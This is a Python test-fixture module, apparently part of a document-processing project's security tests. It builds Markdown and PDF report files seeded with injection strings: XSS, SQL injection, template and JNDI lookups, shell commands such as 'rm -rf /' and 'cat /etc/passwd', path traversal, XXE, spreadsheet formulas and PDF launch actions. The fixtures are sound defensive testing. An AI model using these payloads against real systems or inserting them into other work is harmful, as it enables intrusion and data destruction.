"""Reports with texts in them that are meant for another program: browser, shell, template, spreadsheet, database."""

from __future__ import annotations

from tests import reports
from tests.hostile import INDEXED, Case
from tests.hostile.pdf import CATALOG, FREE, content_of, file, pages_of, put, stream

SCRIPT = "<script>alert(1)</script>"
TEXTS = {
    "script": SCRIPT,
    "script in capitals": "<SCRIPT SRC=//example.org/x.js></SCRIPT>",
    "script half written": "<script>alert(1)//",
    "script in a picture": "<img src=x onerror=alert(1)>",
    "script in a drawing": "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "script already escaped": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt; &#60;b&#62;",
    "script in an attribute": "\" onmouseover=\"alert(1)\" x=\"' onfocus='alert(1)' autofocus='",
    "end of the page": "</p></main></body></html><!-- --> ]]> </textarea></title></style>",
    "frame": "<iframe src='javascript:alert(1)'></iframe><base href=//example.org/>",
    "style": "<style>body{display:none}</style><link rel=stylesheet href=//example.org/x.css>",
    "link that runs": "[the protocol](javascript:alert(1)) [and](JaVaScRiPt&colon;alert(1)) ![x](data:text/html,x)",
    "link that is data": '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <https://x.org/"onclick="x>',
    "database": "Robert'); DROP TABLE reports;-- ' OR '1'='1 \" UNION SELECT * FROM sections --",
    "full text query": 'NEAR(a b) "unbalanced * OR AND NOT ( title:x [a TO z] ~9 ^99',
    "template": "{{7*7}} {{ config.items() }} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "format": "%s %n %(name)s {0.__class__} {name!r:>99999999} ${7*7} #{7*7} <%= 7*7 %> $$ \\g<0> \\1",
    "look-up": "${jndi:ldap://example.org/a} ${env:HOME} `id` $(id) ; rm -rf / | cat /etc/passwd && echo",
    "path": "../../../../etc/passwd ..\\..\\windows\\win.ini %2e%2e%2f file:///etc/passwd /dev/zero",
    "entity": '<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c SYSTEM "file:///etc/passwd">]><x>&a;&c;</x>',
    "formula": "=cmd|'/c calc'!A1 +1+1 -2+3 @SUM(1+1)\t=HYPERLINK(\"//example.org\")",
    "terminal": "\x1b[2J\x1b[31m\x1b]0;title\x07\x1b]8;;http://example.org\x07link\x1b]8;;\x07 \x9b31m",
    "json": '"}],"x":[{"__proto__":{"a":1}},null,NaN,Infinity] \\u0000 \\ud800 \u2028',
    "regular expression": "(a+)+$ (?R) [[:alpha:]] .*.*.*.*x \\Q\\E (?P<x>a)(?P=x)",
    "heading marks": "# \n## \n###### \n####### seven\n#no space\n# #\n#\t#",
    "mark-up": "**bold *slanted __both_ `code ~~ | a | b\n|---|\n[x]: y\n<!-- > - 1. * + \n```\n~~~\n\\",
}
HEADS = {
    "script in a heading": f"# {SCRIPT}",
    "template in a heading": "# {{7*7}} {% raw %}",
    "script in a definition": f"(d) {SCRIPT} (XSS) – {SCRIPT}",
    "script in a table": f"\t{SCRIPT}\tTotal\n{SCRIPT}\t3\t{SCRIPT}\nLevel 1{SCRIPT}\t1{SCRIPT}\t2\n",
}
OPENING = {
    "JavaScript": b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "launch": b"/OpenAction << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) >> >>",
    "address": b"/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>",
    "form": b"/AcroForm << /XFA 50 0 R /Fields [] >>",
    "other file": b"/OpenAction << /S /GoToR /F (\\\\\\\\example.org\\\\share) /D [0 /Fit] >>",
    "files inside": b"/Names << /EmbeddedFiles << /Names [(../../x) << /F (../../x) /EF << /F 50 0 R >> >>] >> >>",
}


def _text(name: str, words: str) -> Case:
    return Case(f"{name}.md", lambda area, year: reports.text(area, year, extra=words).encode(), INDEXED)


def _first(name: str, line: str) -> Case:
    """A line before the report's last section."""

    def make(area: str, year: int) -> bytes:
        return reports.text(area, year).replace("# Local page", f"{line}\n\n# Local page").encode()

    return Case(f"{name}.md", make, INDEXED)


def _printed(name: str, words: str) -> Case:
    """The same words in a PDF."""
    return Case(f"{name}.pdf", lambda area, year: file(pages_of(reports.text(area, year, extra=words))), INDEXED)


def _titled(area: str, year: int) -> bytes:
    """Script where a PDF file describes itself, and as what is read in place of what is shown."""
    own = pages_of(reports.text(area, year))
    shown = content_of(["", "Housing in the county"])
    own[FREE] = b"<< /Title (%s) /Author (%s) /Subject ({{7*7}}) >>" % (
        (SCRIPT.encode().replace(b"(", b"\\(").replace(b")", b"\\)"),) * 2
    )
    own[51] = stream(b"/Span << /ActualText (%s) >> BDC\n%s\nEMC\n" % (b"<script>alert</script>", shown))
    own[4] = own[4].replace(b"/Contents 5 0 R", b"/Contents [51 0 R 5 0 R]")
    return file(own, b"/Root 1 0 R /Info 50 0 R")


CASES = (
    *(_text(name, words) for name, words in TEXTS.items()),
    *(_first(name, line) for name, line in HEADS.items()),
    *(_printed(name, TEXTS[name]) for name in ("script", "template", "formula", "link that runs", "database")),
    Case("script in the title.pdf", _titled, INDEXED),
    *(
        put(f"opens a {name}", INDEXED, {CATALOG: b"<< /Pages 2 0 R %s >>" % entries, FREE: stream(b"<x/>")})
        for name, entries in OPENING.items()
    ),
)  # fmt: skip
